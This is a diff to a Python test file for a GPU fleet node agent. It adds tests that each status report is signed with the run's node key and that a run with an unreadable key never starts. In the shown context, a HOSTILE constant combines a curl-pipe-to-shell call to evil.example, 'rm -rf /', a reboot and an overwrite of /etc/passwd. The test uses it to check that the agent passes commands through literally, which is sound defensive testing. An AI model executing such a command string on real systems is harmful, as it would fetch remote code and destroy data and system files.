@@ -39,6 +39,7 @@ from gpufleet.agent.node import (
     RunOutcome,
     parse_job_metric_line,
 )
+from gpufleet.domain.node_reports import NodeKey, ReportNotAuthentic, verify_report
 from gpufleet.domain.rendezvous import Peer, node_environment
 from gpufleet.topology import (
     DETAIL_NODE_FINISHED,
@@ -47,6 +48,7 @@ from gpufleet.topology import (
     agent_log_stream,
 )
 from tests.manual_clock import ManualClock
+from tests.node_keys import NODE_KEY, NODE_KEY_DOCUMENT, is_node_key, unsigned
 
 HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"
 
@@ -102,6 +104,8 @@ class FakeManifests:
     documents: dict[str, bytes] = field(default_factory=dict)
 
     def fetch(self, key: str) -> bytes:
+        if is_node_key(key) and key not in self.documents:
+            return NODE_KEY_DOCUMENT  # every run has one
         return self.documents[key]
 
 
@@ -163,7 +167,7 @@ def test_the_agent_reports_start_then_finish_with_the_exit_code() -> None:
     )
     assert agent.run().exit_code == 7
     assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_STARTED, DETAIL_NODE_FINISHED]
-    assert reporter.reports[1][1] == {
+    assert unsigned(reporter.reports[1][1]) == {
         "job_id": "j-0123456789abcdef0123",
         "instance_id": "i-1",
         "phase": "finished",
@@ -171,6 +175,41 @@ def test_the_agent_reports_start_then_finish_with_the_exit_code() -> None:
         "reason": "",
     }
     assert runtime.seen[0].command == ["a", HOSTILE]
+
+
+def test_every_report_is_signed_with_the_runs_key() -> None:
+    reporter = FakeReporter()
+    clock = ManualClock()
+    agent = NodeAgent(
+        FakeIdentity(),
+        FakeManifests({RUN_KEY: RUN}),
+        reporter,
+        FakeRuntime(RunOutcome(exit_code=0)),
+        wall_clock=lambda: 1_800_000_000.25,
+        clock=clock,
+    )
+    agent.run()
+    assert len(reporter.reports) == 2
+    for _kind, detail in reporter.reports:
+        verify_report(detail, NODE_KEY)  # raises unless signed with it
+        assert detail["run"] == NODE_KEY.run
+        assert detail["sent_ms"] == 1_800_000_000_250
+    other_run = NodeKey(run=NODE_KEY.run, secret=bytes(32))
+    with pytest.raises(ReportNotAuthentic):
+        verify_report(reporter.reports[0][1], other_run)
+
+
+def test_a_run_whose_key_cannot_be_read_does_not_start() -> None:
+    """Its reports could not be heard: nothing runs, and the one report says why."""
+    reporter = FakeReporter()
+    runtime = FakeRuntime(RunOutcome(exit_code=0))
+    manifests = FakeManifests({RUN_KEY: RUN, f"runs/{JOB}/node-key": b'{"run": 1}'})
+    NodeAgent(FakeIdentity(), manifests, reporter, runtime, manifest_retry_seconds=0).run()
+    assert runtime.seen == []
+    [(kind, detail)] = reporter.reports
+    assert kind == DETAIL_NODE_FINISHED
+    assert "node key is not valid" in detail["reason"]
+    assert "signature" not in detail  # nothing to sign it with: the control plane refuses it
 
 
 def test_a_missing_manifest_is_reported_as_a_failure_not_a_hang() -> None:
